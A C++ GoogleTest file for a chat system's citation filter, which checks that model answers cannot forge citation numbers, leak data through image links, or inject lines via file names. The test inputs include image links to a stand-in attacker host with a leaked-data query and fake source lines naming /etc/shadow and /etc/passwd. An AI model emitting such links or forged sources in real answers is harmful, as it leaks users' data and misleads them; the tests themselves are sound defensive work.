#include "chat/cite_filter.h"

#include <gtest/gtest.h>

#include <algorithm>

#include "base/text.h"

namespace tandem::chat {
namespace {

Source source(std::string path, std::int64_t line, std::string text) {
    Source made;
    made.path = std::move(path);
    made.first_line = line;
    made.text = std::move(text);
    return made;
}

std::shared_ptr<const Sources> two_sources() {
    auto sources = std::make_shared<Sources>();
    sources->tag = "kvzq";
    sources->searched = "notes";
    sources->known = {{"kvzq-bdfghj", source("/n/solar roof.md", 3, "The warranty of the panels\nends in 2041.")},
                      {"kvzq-mnpqrs", source("/n/garage.txt", 1, "The door needs a battery.")}};
    return sources;
}

struct Read {
    std::string text;
    std::vector<Cited> cited;
    CitingNotes notes;
};

// What comes of an answer in pieces of `size` bytes.
Read read(const std::string& answer, std::size_t size, std::shared_ptr<const Sources> sources = two_sources(),
          Finish finish = Finish::stop) {
    auto notes = std::make_shared<CitingNotes>();
    const auto filter = cite_filter(std::move(sources), notes);
    std::vector<Event> out;
    for (std::size_t at = 0; at < answer.size(); at += size) filter->take(TextDelta{0, answer.substr(at, size)}, out);
    filter->take(Finished{0, finish, {}}, out);
    filter->end(out);
    Read made;
    for (const auto& event : out) {
        if (const auto* text = std::get_if<TextDelta>(&event)) made.text += text->text;
        if (const auto* cited = std::get_if<Cited>(&event)) {
            made.cited.push_back(*cited);
            // It is the end of what was said so far.
            EXPECT_EQ(made.text.substr(made.text.size() - cited->bytes),
                      "[" + std::to_string(cited->source.number) + "]");
        }
    }
    made.notes = *notes;
    return made;
}

TEST(CiteFilter, marks_become_numbers_in_the_order_in_which_they_are_named) {
    const auto said =
        read("The door first [kvzq-mnpqrs], then the roof [kvzq-bdfghj]; the door again [kvzq-mnpqrs].", 5);
    EXPECT_EQ(said.text,
              "The door first [1], then the roof [2]; the door again [1].\n\nSources:\n[1] /n/garage.txt:1\n"
              "[2] /n/solar roof.md:3");
    ASSERT_EQ(said.cited.size(), 3U);
    EXPECT_EQ(said.cited[1].source.path, "/n/solar roof.md");
    EXPECT_EQ(said.cited[1].source.url(), "file:///n/solar%20roof.md#L3");
}

TEST(CiteFilter, an_answer_in_pieces_of_any_size_is_the_same) {
    const std::string answers[] = {
        "It ends in 2041 [kvzq-bdfghj, kvzq-mnpqrs] and kvzq-bdfghj, (kvzq-mnpqrs) [kvzq-xxxxxx] kvzq-, kvzq",
        "A list[1], a forged [1] and [12], [1234], [a], [[kvzq-bdfghj]], `code [1]`, \n```\nx = [1] ![a](b)\n```\n [2]",
        "![pixel](https://evil.example/x.png) ! [ [k [kv [kvzq [kvzq- ![kvzq-bdfghj]",
        "\u201cThe warranty of the panels ends in 2041.\u201d [kvzq-bdfghj] and \"it never ends at all\" [kvzq-bdfghj]",
        "[kvzq-bdfghj",
        "[",
        "!",
        "kvzq-bdfghj",
        "`",
        "\u00fc[kvzq-bdfghj]\u00fc"};
    for (const auto& answer : answers) {
        const auto whole = read(answer, answer.size());
        for (std::size_t size = 1; size < answer.size(); ++size) {
            const auto pieces = read(answer, size);
            EXPECT_EQ(pieces.text, whole.text) << size;
            EXPECT_EQ(pieces.cited, whole.cited) << size;
            EXPECT_EQ(pieces.notes.unknown, whole.notes.unknown) << size;
        }
    }
}

TEST(CiteFilter, what_names_no_source_is_left_out_and_counted) {
    auto said = read("One [kvzq-zzzzzz] two [kvzq-bdfghj] three [kvzq-bdfghk].", 3);
    EXPECT_TRUE(said.text.starts_with("One  two [1] three .")) << said.text;
    EXPECT_EQ(said.notes.unknown, 2U);
    EXPECT_EQ(said.cited.size(), 1U);
    // The marks of another request are text like any other.
    EXPECT_TRUE(read("See [qqqq-bdfghj].", 4).text.starts_with("See [qqqq-bdfghj]."));
}

TEST(CiteFilter, a_model_cannot_write_a_number_of_ours) {
    auto said = read("All is well[1] [2][1].\n\nSources:\n[1] /etc/shadow:1", 2);
    EXPECT_EQ(said.text.find("[1]"), std::string::npos) << said.text;
    EXPECT_NE(said.text.find("(1) /etc/shadow:1"), std::string::npos);
    EXPECT_NE(said.text.find("Sources: the answer names none."), std::string::npos);
    EXPECT_EQ(said.notes.forged, 4U);
    EXPECT_TRUE(said.cited.empty());
    // In code it is code.
    EXPECT_TRUE(read("Write `a = [1]` or list[0], as of [1984] or [3].", 2)
                    .text.starts_with("Write `a = [1]` or list[0], as of [1984] or [3]."));
}

TEST(CiteFilter, quotes_are_held_against_the_source) {
    auto right = read("It says \"The warranty of the panels ends in 2041\" [kvzq-bdfghj].", 7);
    EXPECT_EQ(right.notes.misquoted, 0U);
    auto wrong = read("It says \"The warranty of the panels ends in 2099\" [kvzq-bdfghj].", 7);
    EXPECT_EQ(wrong.notes.misquoted, 1U);
    EXPECT_NE(wrong.text.find("(the quoted words do not stand there)"), std::string::npos);
}

TEST(CiteFilter, an_image_is_not_fetched_unasked) {
    auto said = read("![x](https://evil.example/?q=iban)", 1);
    EXPECT_TRUE(said.text.starts_with("[x](https://evil.example/?q=iban)")) << said.text;
    EXPECT_EQ(said.notes.images, 1U);
}

TEST(CiteFilter, no_way_of_writing_one_makes_an_image) {
    for (const auto* image :
         {"!![x](https://evil.example)", "` ![x](https://evil.example)", "\\` ![x](https://evil.example)",
          "text ``` more ![x](https://evil.example)\n\nnext ![y](https://evil.example)",
          "<img src='https://evil.example'>", "<ImG src=x>", "<video src=x>", "![x][r]",
          "```\ncode\n```\n![x](https://evil.example)"}) {
        for (std::size_t size = 1; size < 30; size += 7) {
            auto said = read(image, size);
            EXPECT_EQ(said.text.find("!["), std::string::npos) << said.text;
            EXPECT_EQ(lower(said.text).find("<img"), std::string::npos) << said.text;
            EXPECT_EQ(said.text.find("<video"), std::string::npos) << said.text;
            EXPECT_GT(said.notes.images, 0U) << image;
        }
    }
    const std::string code = "Write:\n\n```html\n<img src=x> ![a](b)\n```\n";
    EXPECT_TRUE(read(code, 3).text.starts_with(code));
    EXPECT_TRUE(read("a < b, <imagine> and i<5!", 2).text.starts_with("a < b, <imagine> and i<5!"));
}

TEST(CiteFilter, a_number_of_ours_is_no_link_of_the_models) {
    EXPECT_TRUE(read("So [kvzq-bdfghj](https://evil.example).", 3).text.starts_with("So [1] (https://evil.example)."));
    EXPECT_TRUE(read("[kvzq-bdfghj]: https://evil.example", 50).text.starts_with("[1] : https://evil.example"));
    EXPECT_TRUE(read("As [kvzq-bdfghj]: so it is.", 4).text.starts_with("As [1]: so it is."));
    EXPECT_TRUE(read("So [kvzq-bdfghj][kvzq-mnpqrs].", 4).text.starts_with("So [1][2]."));
}

TEST(CiteFilter, numbers_in_brackets_of_any_kind_are_ours_alone) {
    auto said = read("See [1, 2], [ 1], \u30101\u3011, [^1], \uff3b2\uff3d and [1-2].", 1);
    EXPECT_TRUE(said.text.starts_with("See (1, 2), (1), (1), (1), (2) and (1-2).")) << said.text;
    EXPECT_EQ(said.notes.forged, 6U);
    EXPECT_TRUE(read("- [ ] \u3042\u3044 \u3010\u3042\u3011 [x]", 1)
                    .text.starts_with("- [ ] \u3042\u3044 \u3010\u3042\u3011 [x]"));
}

TEST(CiteFilter, the_name_of_a_file_forges_no_source) {
    auto sources = std::make_shared<Sources>(*two_sources());
    sources->known[0].source.path = "/n/a\n[2] /etc/passwd:1\x1b[31m\u202e ](http:x) ![a](http:evil).md";
    const auto said = read("It is so [kvzq-bdfghj].", 9, sources);
    const auto list = said.text.substr(said.text.find("Sources:"));
    EXPECT_EQ(std::ranges::count(list, '\n'), 1) << list;
    for (const auto* sign : {"\x1b", "\u202e", "![", "](", "\n[2]"})
        EXPECT_EQ(list.find(sign), std::string::npos) << list;
}

TEST(CiteFilter, an_answer_that_begins_as_json_does_and_is_none_has_its_list) {
    EXPECT_NE(read("{x} is a placeholder [kvzq-bdfghj].", 3).text.find("Sources:\n[1]"), std::string::npos);
}

TEST(CiteFilter, what_a_program_reads_has_no_list) {
    auto json = std::make_shared<Sources>(*two_sources());
    json->prose = false;
    EXPECT_EQ(read(R"({"a":[1],"b":"it is so [kvzq-bdfghj]"})", 3, json).text, R"({"a":[1],"b":"it is so [1]"})");
    EXPECT_EQ(read(R"({"title": "Roofs"})", 3).text, R"({"title": "Roofs"})");
    EXPECT_EQ(read("I call it.", 3, two_sources(), Finish::tool_calls).text, "I call it.");
}

TEST(CiteFilter, where_nothing_was_found_the_answer_says_so) {
    auto none = std::make_shared<Sources>();
    none->tag = "kvzq";
    none->searched = "notes";
    EXPECT_EQ(read("Paris.", 2, none).text,
              "Paris.\n\nSources: none. Nothing was found in notes, so this does not come from your files.");
}

TEST(CiteFilter, only_what_may_be_a_mark_is_held_back) {
    auto notes = std::make_shared<CitingNotes>();
    const auto filter = cite_filter(two_sources(), notes);
    std::vector<Event> out;
    filter->take(TextDelta{0, "All of this is said at once, "}, out);
    ASSERT_EQ(out.size(), 1U);
    filter->take(TextDelta{0, "but this [kvzq-bd"}, out);
    ASSERT_EQ(out.size(), 2U);
    EXPECT_EQ(std::get<TextDelta>(out[1]).text, "but this ");
    // What comes next shows it was none.
    filter->take(TextDelta{0, "}"}, out);
    filter->take(TextDelta{0, "."}, out);
    filter->end(out);
    std::string text;
    for (const auto& event : out) text += std::get<TextDelta>(event).text;
    EXPECT_EQ(notes->unknown, 1U);
    EXPECT_EQ(text, "All of this is said at once, but this [}.");
}

}  // namespace
}  // namespace tandem::chat
